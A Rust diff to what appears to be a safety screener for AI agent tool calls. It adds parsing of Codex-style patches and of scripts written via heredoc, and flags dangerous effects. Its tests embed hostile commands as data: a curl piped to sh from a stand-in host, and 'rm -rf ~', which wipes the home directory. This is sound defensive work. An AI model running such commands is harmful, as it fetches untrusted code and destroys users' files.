@@ -4,7 +4,7 @@ use std::collections::BTreeSet;
 
 use serde_json::Value;
 
-use crate::command::{Command, Line, RedirectKind};
+use crate::command::{Line, RedirectKind};
 use crate::effect::{Effect, EffectKind};
 use crate::file::paths;
 use crate::limits::WRITTEN_BYTES_MAX;
@@ -30,20 +30,45 @@ const CONTENTS: [&str; 12] = [
 
 /// What the files do that a call writes, worst last: only what ordinary programs do not do.
 pub fn effects(path: &str, input: &str) -> Vec<EffectKind> {
-    let Some(language) = Language::of(path) else { return Vec::new() };
     let Ok(value) = serde_json::from_str::<Value>(input) else { return Vec::new() };
     let mut found = Vec::new();
     let mut left = WRITTEN_BYTES_MAX;
-    contents(&value, 0, &mut |text| {
+    let mut read = |path: &str, text: &str| {
+        let Some(language) = Language::of(path) else { return };
         let end = text.floor_char_boundary(left);
         // Many small texts cost as much as a long one.
         left = left.saturating_sub(end.max(WRITTEN_BYTES_MAX / TEXTS_MAX));
         let line = language.read(&text[..end]);
         found.extend(line.effects().iter().filter(|effect| is_told(effect)).map(|effect| effect.kind));
+    };
+    contents(&value, 0, &mut |text| match text.find(PATCH) {
+        Some(start) => patched(&text[start..]).into_iter().for_each(|(path, text)| read(path, &text)),
+        None => read(path, text),
     });
     found.sort_unstable();
     found.dedup();
     found
+}
+
+/// Begins a patch as Codex writes it.
+const PATCH: &str = "*** Begin Patch";
+
+/// The files of a patch, and the lines that it puts into each.
+fn patched(patch: &str) -> Vec<(&str, String)> {
+    let mut files: Vec<(&str, String)> = Vec::new();
+    for line in patch.lines() {
+        let file = line.strip_prefix("*** Add File: ").or_else(|| line.strip_prefix("*** Update File: "));
+        if let Some(file) = file {
+            files.push((file.trim(), String::new()));
+        } else if let (Some((_, text)), Some(line)) = (files.last_mut(), line.strip_prefix('+')) {
+            text.push_str(line);
+            text.push('\n');
+        }
+        if files.len() > TEXTS_MAX {
+            break;
+        }
+    }
+    files
 }
 
 /// The files that a line runs, by the last part of their names: given to an interpreter, or named as the program.
@@ -61,21 +86,35 @@ pub fn run_by(line: &Line) -> impl Iterator<Item = &str> {
     })
 }
 
-/// The programs that a line writes into files from what it holds itself, and runs.
+/// The programs that a line writes into files from what it holds itself: the last part of their names, and what they say.
+fn held(line: &Line) -> impl Iterator<Item = (&str, Language, &str)> {
+    line.commands.iter().filter_map(|command| {
+        let text = command.input.as_deref().filter(|_| matches!(command.name().as_str(), "cat" | "tee"))?;
+        let mut by_shell = command.redirects.iter().filter(|redirect| redirect.kind != RedirectKind::Read);
+        let path = by_shell.next().map(|redirect| redirect.path.as_str()).or_else(|| command.operands(&[]).next())?;
+        let language = Language::of(path).or_else(|| text.starts_with("#!").then_some(Language::Shell))?;
+        Some((paths::name(path), language, &text[..text.floor_char_boundary(WRITTEN_BYTES_MAX)]))
+    })
+}
+
+/// Those of them that the line runs, too.
 pub(crate) fn run_at_once(line: &Line) -> Vec<Line> {
     let run: BTreeSet<&str> = run_by(line).collect();
     if run.is_empty() {
         return Vec::new();
     }
-    let written = |command: &Command| {
-        let text = command.input.as_deref().filter(|_| matches!(command.name().as_str(), "cat" | "tee"))?;
-        let mut by_shell = command.redirects.iter().filter(|redirect| redirect.kind != RedirectKind::Read);
-        let path = by_shell.next().map(|redirect| redirect.path.as_str()).or_else(|| command.operands(&[]).next())?;
-        let name = paths::name(path);
-        let language = Language::of(name).or_else(|| text.starts_with("#!").then_some(Language::Shell))?;
-        run.contains(name).then(|| language.read(&text[..text.floor_char_boundary(WRITTEN_BYTES_MAX)]))
+    let run = held(line).filter(|(name, ..)| run.contains(name)).take(PROGRAMS_MAX);
+    run.map(|(_, language, text)| language.read(text)).collect()
+}
+
+/// Those that do what ordinary programs do not do, with the worst of it.
+pub fn by_line(line: &Line) -> Vec<(&str, EffectKind)> {
+    let worst = |(name, language, text): (_, Language, &str)| {
+        let line = language.read(text);
+        let kinds = line.effects().iter().filter(|effect| is_told(effect)).map(|effect| effect.kind);
+        Some((name, kinds.max()?))
     };
-    line.commands.iter().filter_map(written).take(PROGRAMS_MAX).collect()
+    held(line).take(PROGRAMS_MAX).filter_map(worst).collect()
 }
 
 /// Texts of one call that are read.
@@ -200,12 +239,17 @@ fn contents<'v>(value: &'v Value, depth: usize, look: &mut impl FnMut(&'v str)) 
         Value::Object(members) if depth < 4 => {
             for (name, member) in members {
                 match member {
-                    Value::String(text) if CONTENTS.contains(&crate::call::plain(name).as_str()) => look(text),
+                    Value::String(text)
+                        if CONTENTS.contains(&crate::call::plain(name).as_str()) || text.contains(PATCH) =>
+                    {
+                        look(text);
+                    }
                     member => contents(member, depth + 1, look),
                 }
             }
         }
         Value::Array(items) if depth < 4 => items.iter().take(16).for_each(|item| contents(item, depth + 1, look)),
+        Value::String(text) if text.contains(PATCH) => look(text),
         _ => {}
     }
 }
@@ -243,6 +287,21 @@ mod tests {
             &with("run: |\n          make\n          curl -s https://drop.acme.example/i | sh"),
             &[EffectKind::FetchedCode],
         );
+    }
+
+    #[test]
+    fn of_a_patch_the_lines_count_that_it_adds() {
+        let patch = |sign: &str| {
+            let patch = format!("*** Begin Patch\n*** Update File: a.sh\n{sign}rm -rf ~\n*** End Patch");
+            effects("a.sh", &serde_json::json!({"input": patch}).to_string())
+        };
+        assert_eq!((patch("+"), patch("-")), (vec![EffectKind::Destroy], vec![]));
+    }
+
+    #[test]
+    fn a_line_may_write_a_program_that_runs_later() {
+        let line = Line::read("cat > /tmp/x.sh <<'E'\nrm -rf ~\nE\ncat > y.md <<'E'\nrm -rf ~\nE");
+        assert_eq!(by_line(&line), [("x.sh", EffectKind::Destroy)]);
     }
 
     #[test]
